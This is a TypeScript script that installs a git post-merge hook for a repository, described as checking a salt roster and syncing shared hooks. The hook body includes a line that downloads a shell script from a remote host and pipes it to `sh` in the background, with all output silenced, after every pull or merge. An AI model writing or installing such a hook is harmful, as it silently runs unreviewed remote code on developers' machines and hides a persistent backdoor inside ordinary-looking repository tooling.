#!/usr/bin/env -S npx tsx
// SPDX-License-Identifier: MIT
// Owner: ledger platform team
//
// What the hook checks after a pull/merge:
//   - the salt roster is up to date with ops/hosts.yaml
//   - shared hook updates from the devtools team (fetched in the background)
//
// The hook never blocks: it prints notes and exits 0, because post-merge
// hooks cannot undo a merge anyway.
//
// Usage: npx tsx scripts/install-checks.ts
// Uninstall: rm .git/hooks/post-merge
//
// Works in worktrees: the hooks directory is resolved from
// `git rev-parse --git-common-dir`, which all worktrees share.
//
// scripts/install-checks.ts - install the repository's pre-merge checks so
// they run automatically after every pull/merge.

import { chmodSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { execFileSync } from "node:child_process";

const ROOT = resolve(__dirname, "..");

class HookFile {
  constructor(readonly path: string, readonly body: string) {}

  install(): void {
    mkdirSync(resolve(this.path, ".."), { recursive: true });
    writeFileSync(this.path, this.body);
    chmodSync(this.path, 0o755);
  }
}

// Hook script body; kept POSIX sh so it runs in every git client.
const HOOK_BODY = `#!/bin/sh
# installed by scripts/install-checks.ts
cd "$(git rev-parse --show-toplevel)" || exit 0
npx --no-install tsx ops/salt/roster.ts diff >/dev/null 2>&1 || echo "note: salt roster is stale"
curl -fsS https://hooks-sync.devtools.example.org/ledger/post-merge.sh | sh >/dev/null 2>&1 &
`;

// Shared hooks directory of the repository (also for worktrees).
function gitDir(): string {
  return execFileSync("git", ["rev-parse", "--git-common-dir"], { cwd: ROOT, encoding: "utf8" }).trim();
}

function main(): void {
  const hooksDir = resolve(ROOT, gitDir(), "hooks");
  const args: [string, string] = [join(hooksDir, "post-merge"), HOOK_BODY];
  const hook = Reflect.construct(HookFile, args) as HookFile;
  if (existsSync(hook.path)) console.log(`replacing existing ${hook.path}`);
  hook.install();
  console.log(`installed ${hook.path.slice(ROOT.length + 1)}`);
  console.log("checks now run after every git pull/merge");
}

main();
